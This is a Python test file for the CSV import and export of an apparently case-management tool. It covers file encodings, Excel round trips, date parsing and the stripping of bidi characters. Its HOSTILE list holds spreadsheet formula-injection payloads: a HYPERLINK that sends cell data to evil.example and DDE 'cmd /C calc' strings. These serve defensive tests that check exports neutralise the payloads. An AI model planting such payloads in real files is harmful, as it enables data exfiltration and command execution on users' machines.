"""Spreadsheets from the real world (issue 24): client sheets saved in Russian and Western locales
(tests/data/sheets, made by make_sheets.py there), the export → Excel → import round trip, CSV
that is safe to open in Excel, Excel's trailing columns and dates, and long error lists."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest

from plea.csvio import _plain_number
from tests.dbcheck import rows

SHEETS = Path(__file__).parent.parent / "data" / "sheets"
YEAR = date.today().year


pytestmark = pytest.mark.usefixtures("this_year")  # YEAR, REF(S): the running test's year


@pytest.mark.parametrize("name", ["clients-cp1251.csv", "clients-koi8r.csv", "clients-mac-cyrillic.csv",
                                  "clients-utf16.txt", "clients-utf8-bom.csv"])
def test_a_russian_sheet_keeps_its_cyrillic(plea, db_file: Path, name: str) -> None:
    r = plea("cases", "import", str(SHEETS / name))
    assert "3 created, 0 updated, 0 unchanged" in r.stderr
    assert rows(db_file, 'SELECT name_latin, name_native, birth_date FROM "case" ORDER BY ref') == [
        ("Ivan Petrov", "Иван Петров", "1985-07-15"),
        ("Olga Ivanova", "Ольга Иванова", "1990-11-30"),
        ("Yaroslav Shchukin", "Ярослав Щукин", None),
    ]
    family = json.loads(plea("cases", "show", f"PLEA-{YEAR}-0001", "--json").stdout)["family"]
    assert family == [{"name": "Мария Петрова", "relation": "жена", "birth_date": "1987-05-06"},
                      {"name": "Павел Петров", "relation": "сын", "birth_date": ""}]


@pytest.mark.parametrize("name", ["clients-cp1252.csv", "clients-mac-roman.csv"])
def test_a_western_sheet_keeps_its_accents(plea, db_file: Path, name: str) -> None:
    plea("cases", "import", str(SHEETS / name))
    assert rows(db_file, 'SELECT name_latin, birth_date FROM "case" ORDER BY ref') == [
        ("José Álvarez", "1985-11-30"), ("Zoë Müller", None), ("François Lefèvre", "1995-07-15")]


def test_unsure_encoding_stops_and_changes_nothing(plea, db_file: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "short.csv"
    # the only non-ASCII word is in lower case: cp1251 "жена", KOI8-R "ФЕМЮ" and Mac "жена" all look right
    sheet.write_bytes('name_latin;situation;family\nIvan Petrov;detained;"Olga Petrova;жена"\n'.encode("cp1251"))
    r = plea("cases", "import", str(sheet), code=3)
    assert r.stderr == (
        f"plea: error: {sheet}: cannot tell which encoding the file was saved in (it could be cp1251, koi8_r, "
        "mac_cyrillic); nothing was imported\n"
        "name it with --encoding (for example --encoding cp1251), or save the file from your spreadsheet "
        "as 'CSV UTF-8'\n")
    assert rows(db_file, 'SELECT count(*) FROM "case"') == [(0,)]
    plea("cases", "import", str(sheet), "--encoding", "cp1251")
    assert json.loads(rows(db_file, 'SELECT family FROM "case"')[0][0]) == [
        {"name": "Olga Petrova", "relation": "жена", "birth_date": ""}]


def test_encoding_override_must_fit_the_bytes(plea, db_file: Path) -> None:
    sheet = SHEETS / "clients-cp1251.csv"
    r = plea("cases", "import", str(sheet), "--encoding", "utf-8", code=3)
    assert r.stderr == (f"plea: error: {sheet}: not valid utf-8 (line 2, byte 92); nothing was imported\n"
                        "name the encoding the file was saved in with --encoding\n")
    r = plea("cases", "import", str(sheet), "--encoding", "klingon", code=3)
    assert r.stderr == ("plea: error: --encoding 'klingon': not an encoding Python knows\n"
                        "try one of utf-8, utf-16, cp1251, cp1252, koi8_r, mac_cyrillic, mac_roman\n")


def test_export_edit_in_russian_excel_import_round_trip(plea, db_file: Path, tmp_path: Path) -> None:
    plea("cases", "import", str(SHEETS / "clients-utf8-bom.csv"))
    before = plea("cases", "export", "--json", "--all").stdout
    exported = tmp_path / "cases.csv"
    plea("cases", "export", str(exported))
    data = exported.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # so Excel reads it as UTF-8, not in the locale's code page
    # Excel in a Russian locale: "Save as CSV" writes cp1251 with `;` and Windows line ends
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    buf = io.StringIO()
    csv.writer(buf, delimiter=";", lineterminator="\r\n").writerows(table)
    exported.write_bytes(buf.getvalue().encode("cp1251"))
    r = plea("cases", "import", str(exported))
    assert "0 created, 0 updated, 3 unchanged" in r.stderr
    assert plea("cases", "export", "--json", "--all").stdout == before


HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0"]


def _formula_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row
            if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not _plain_number(c)]


def test_cases_export_defuses_formulas_and_imports_back_exactly(plea, db_file: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "hostile.csv"
    body = "".join(f'"{h.replace(chr(34), chr(34) * 2)}";"{h.replace(chr(34), chr(34) * 2)}";+7 912 345 67 89\n'
                   for h in HOSTILE)
    sheet.write_text("name_latin;persecution;rep_phone\n" + body + "'t Hooft;story;-5\n", encoding="utf-8")
    # a quote before a formula character is what Excel users type to keep it text: it goes
    plea("cases", "import", str(sheet))
    stored = rows(db_file, 'SELECT name_latin, persecution, rep_phone FROM "case" ORDER BY ref')
    assert stored == [(h, h, "+7 912 345 67 89") for h in HOSTILE] + [("'t Hooft", "story", "-5")]
    text = plea("cases", "export").stdout
    assert _formula_cells(text) == []
    assert "'=HYPERLINK(" in text and "'t Hooft" in text and ",+7 912 345 67 89," in text
    exported = tmp_path / "out.csv"
    exported.write_text(text, encoding="utf-8")
    assert "0 created, 0 updated, 5 unchanged" in plea("cases", "import", str(exported)).stderr


def test_embassies_and_table_exports_defuse_formulas(plea, db_file: Path, tmp_path: Path) -> None:
    mission = rows(db_file, "SELECT id FROM mission WHERE host = 'LT' ORDER BY id LIMIT 1")[0][0]
    plea("embassies", "edit", mission, "--notes", HOSTILE[0], "--city", "@Vilnius")
    assert _formula_cells(plea("embassies", "export", "--host", "LT").stdout) == []
    out = tmp_path / "lt.csv"
    plea("embassies", "export", str(out), "--host", "LT")
    assert _formula_cells(out.read_text(encoding="utf-8-sig")) == []
    plea("export", str(tmp_path / "dump"))
    for f in (tmp_path / "dump").glob("*.csv"):
        assert _formula_cells(f.read_text(encoding="utf-8")) == [], f.name
    assert "'=HYPERLINK(" in (tmp_path / "dump" / "mission.csv").read_text(encoding="utf-8")


def test_trailing_empty_columns_are_ignored(plea, db_file: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "excel.csv"
    sheet.write_text("name_latin;born;;;\r\nIvan Petrov;30.11.1985;;;\r\nOlga;;;\r\n;;;;\r\n", encoding="utf-8")
    plea("cases", "import", str(sheet))
    assert rows(db_file, 'SELECT name_latin, birth_date FROM "case" ORDER BY ref') == [
        ("Ivan Petrov", "1985-11-30"), ("Olga", None)]
    sheet.write_text("name_latin;born;;\r\nIvan Petrov;;;x\r\n", encoding="utf-8")
    r = plea("cases", "import", str(sheet), code=3)
    assert r.stderr == (f"plea: error: {sheet}: 1 problem(s); nothing was imported\n"
                        f"{sheet}:2: a value in column 3, which has no heading\n")


def test_embassies_import_ignores_trailing_empty_columns(plea, db_file: Path, tmp_path: Path) -> None:
    exported = plea("embassies", "export", "--host", "LT").stdout
    lines = exported.splitlines()
    sheet = tmp_path / "lt.csv"
    sheet.write_text("\r\n".join(line + ",," for line in lines) + "\r\n", encoding="utf-8")
    assert "unchanged" in plea("embassies", "import", str(sheet)).stdout


def test_ambiguous_dates_are_refused_with_a_hint_and_date_format_settles_them(
    plea, db_file: Path, tmp_path: Path
) -> None:
    sheet = tmp_path / "dates.csv"
    sheet.write_text("name_latin,born,family\nIvan,03/04/1985,Olga;wife;05/06/1987\n", encoding="utf-8")
    r = plea("cases", "import", str(sheet), code=3)
    assert r.stderr == (
        f"plea: error: {sheet}: 2 problem(s); nothing was imported\n"
        f"{sheet}:2: birth_date: '03/04/1985' could be 1985-04-03 (day first) or 1985-03-04 (month first): "
        "write it as YYYY-MM-DD, or pass --date-format DMY or MDY\n"
        f"{sheet}:2: family: birth date '05/06/1987' could be 1987-06-05 (day first) or 1987-05-06 (month "
        "first): write it as YYYY-MM-DD, or pass --date-format DMY or MDY\n"
        "fix these lines and import again\n")
    plea("cases", "import", str(sheet), "--date-format", "MM/DD/YYYY")
    assert rows(db_file, 'SELECT birth_date FROM "case"') == [("1985-03-04",)]
    r = plea("cases", "import", str(sheet), "--date-format", "weekly", code=3)
    assert r.stderr == ("plea: error: --date-format 'weekly': give the order of day, month and year, as DMY "
                        "(15.07.1995), MDY (11/30/1985) or YMD (1985-11-30)\n")


def test_at_most_twenty_problems_are_listed(plea, db_file: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "wide.csv"
    sheet.write_text("name_latin," + ",".join(f"col{i}" for i in range(10_000)) + "\nIvan\n", encoding="utf-8")
    r = plea("cases", "import", str(sheet), code=3)
    lines = r.stderr.splitlines()
    assert lines[0] == f"plea: error: {sheet}: the header is wrong; nothing was imported"
    assert lines[21] == "… and 9980 more problem(s)"
    assert len(lines) == 22


BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"


def test_bidi_controls_are_stripped_from_names(plea, db_file: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "bidi.csv"
    sheet.write_text(f"name_latin,name_native,persecution\nIvan\u202e vorteP,\u2067Иван\u2069,A{BIDI}B\n",
                     encoding="utf-8")
    plea("cases", "import", str(sheet))
    plea("cases", "add", "--reply-to", "answers@example.org", "--name", "Olga\u202eavonavI", "--persecution", "x\u200fy")
    assert rows(db_file, 'SELECT name_latin, name_native, persecution FROM "case" ORDER BY ref') == [
        ("Ivan vorteP", "Иван", "AB"), ("OlgaavonavI", "", "xy")]
    mission = rows(db_file, "SELECT id FROM mission WHERE host = 'LT' ORDER BY id LIMIT 1")[0][0]
    plea("embassies", "edit", mission, "--notes", "call\u202e first")
    assert rows(db_file, "SELECT notes FROM mission WHERE id = ?", mission) == [("call first",)]
    out = plea("cases", "list").stdout + plea("cases", "export").stdout
    assert not any(c in out for c in BIDI)


def test_bidi_controls_stored_earlier_reach_no_table_or_letter(plea, db_file: Path, tmp_path: Path) -> None:
    from tests.dbcheck import execute

    ref = plea("cases", "add", "--reply-to", "answers@example.org", "--name", "Ivan Petrov", "--nationality", "RU", "--persecution", "x").stdout.strip()
    execute(db_file, ('UPDATE "case" SET name_latin = ? WHERE ref = ?', ("Ivan\u202e vorteP", ref)))  # an old row
    assert "\u202e" not in plea("cases", "list").stdout
    plea("letters", "render", ref, "--to", "FR", "--format", "txt", "--out", str(tmp_path / "out"))
    (letter,) = (tmp_path / "out").iterdir()
    text = letter.read_text(encoding="utf-8")
    assert "Ivan vorteP" in text and not any(c in text for c in BIDI)


def test_embassies_import_reads_a_cp1251_sheet_and_takes_encoding(plea, db_file: Path, tmp_path: Path) -> None:
    table = list(csv.reader(io.StringIO(plea("embassies", "export", "--host", "LT").stdout)))
    notes = table[0].index("notes")
    table[1][notes] = "Консульский отдел: звонить утром"
    buf = io.StringIO()
    csv.writer(buf, delimiter=";", lineterminator="\r\n").writerows(table)
    sheet = tmp_path / "lt.csv"
    sheet.write_bytes(buf.getvalue().encode("cp1251"))
    assert "1 updated" in plea("embassies", "import", str(sheet)).stdout
    assert rows(db_file, "SELECT notes FROM mission WHERE id = ?", table[1][0]) == [
        ("Консульский отдел: звонить утром",)]
    r = plea("embassies", "import", str(sheet), "--encoding", "utf-8", code=3)
    assert r.stderr.startswith(f"plea: error: {sheet}: not valid utf-8 (line 2, byte ")
